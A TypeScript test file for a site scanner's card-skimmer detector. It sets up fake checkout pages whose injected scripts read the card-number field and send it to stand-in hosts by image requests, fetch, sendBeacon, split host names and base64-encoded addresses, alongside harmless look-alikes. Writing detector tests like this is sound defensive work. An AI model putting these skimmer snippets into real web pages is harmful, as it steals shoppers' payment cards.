import { afterEach, expect, test } from 'vitest'
import { healthyLab, type Lab, type Pages } from '#test/lab.ts'
import { page, safely } from '#test/pages.ts'

let lab: Lab
afterEach(() => lab.close())

const codesOf = async (pages: Pages, more = {}) => {
  lab = await healthyLab(pages, more)
  const report = await lab.examine('https://shop.test', { codes: ['hack.skimmer'] })
  return report.findings.map(({ code }) => code)
}
const script = (body: string) => ({ headers: { 'content-type': 'text/javascript' }, body })
const FIELDS =
  '<form action="/pay" method="post"><input name="cc_number" autocomplete="cc-number"><input name="cc_cvc"><button>Pay</button></form>'
const home = (path = '/checkout/') => safely(page({ main: `<a href="${path}">Basket and payment</a>` }))
const shop = (code: string, path = '/checkout/', fields = FIELDS): Pages => ({
  '/': home(path),
  [path]: safely(page({ title: 'Till', main: fields, foot: `<script>${code}</script>` })),
})
const READ = "document.querySelector('[name=cc_number]').value"

test.each<[string, Pages]>([
  ['an image', shop(`onsubmit=function(){new Image().src='https://jquery-stats.test/p?d='+${READ}}`)],
  [
    'a host kept in a name',
    shop(`var h='jquery-stats.test/c';onsubmit=function(){fetch('https://'+h,{body:${READ}})}`),
  ],
  [
    'a host cut apart',
    shop(`onsubmit=function(){fetch('https://jqu'+'ery-st'+'ats.test/c',{method:'POST',body:${READ}})}`),
  ],
  [
    'an address in base64',
    shop(`onsubmit=function(){(new Image).src=atob('${btoa('https://jquery-stats.test/c?')}')+${READ}}`),
  ],
  [
    'a French till',
    shop(
      `document.forms[0].onsubmit=e=>navigator.sendBeacon('//jquery-stats.test/',new FormData(e.target))`,
      '/paiement/',
      '<form><label for="a">Numéro de carte</label><input id="a" name="a1"><button>Payer</button></form>',
    ),
  ],
])('on the linked page where one pays, a card sent away by %s is seen', async (_, pages) => {
  expect(await codesOf(pages)).toEqual(['hack.skimmer'])
})

const withFile = (code: string): Pages => ({
  '/': home(),
  '/checkout/': safely(page({ main: FIELDS, foot: '<script src="/theme/view.js"></script>' })),
  '/theme/view.js': script(code),
})
const MENU = 'document.documentElement.classList.add("js");'

test('a skimmer in a script file of the shop’s own is read and quoted', async () => {
  const leak = `if(/checkout/.test(location.pathname))document.onsubmit=function(){new Image().src="https://font-cdn.test/p?"+btoa(${READ})}`
  expect(await codesOf(withFile(MENU + leak))).toEqual(['hack.skimmer'])
})

test.each<[string, Pages]>([
  [
    'a file that checks the card and names its maker in a remark',
    withFile(
      `/* jQuery Payment, see https://card-tools.test/docs */ ${MENU}var v=${READ};fetch('/pay',{body:v})`,
    ),
  ],
  [
    'a file that checks the card and names its maker in a line',
    withFile(`// https://card-tools.test/docs\n${MENU}var v=${READ};fetch('/pay',{body:v})`),
  ],
  [
    'a payment service nobody knows',
    shop(
      `fetch('https://api.regiopay.test/tokens',{method:'POST',body:JSON.stringify({number:${READ}})}).then(r=>r.json()).then(t=>{document.forms[0].token.value=t.id})`,
    ),
  ],
  [
    'a counter that reads no field',
    shop(`new Image().src='https://counter-of-visits.test/c?page=checkout&step=card-number'`),
  ],
  [
    'a gift card and a chat',
    {
      '/': home('/checkout/'),
      '/checkout/': safely(
        page({
          main: '<form><input name="giftcard_number"></form>',
          foot: `<script>var s=document.createElement('script');s.src='https://chat-window.test/c.js';document.body.appendChild(s);s.value=1</script>`,
        }),
      ),
    },
  ],
])('%s is no skimmer', async (_, pages) => {
  expect(await codesOf(pages)).toEqual([])
})
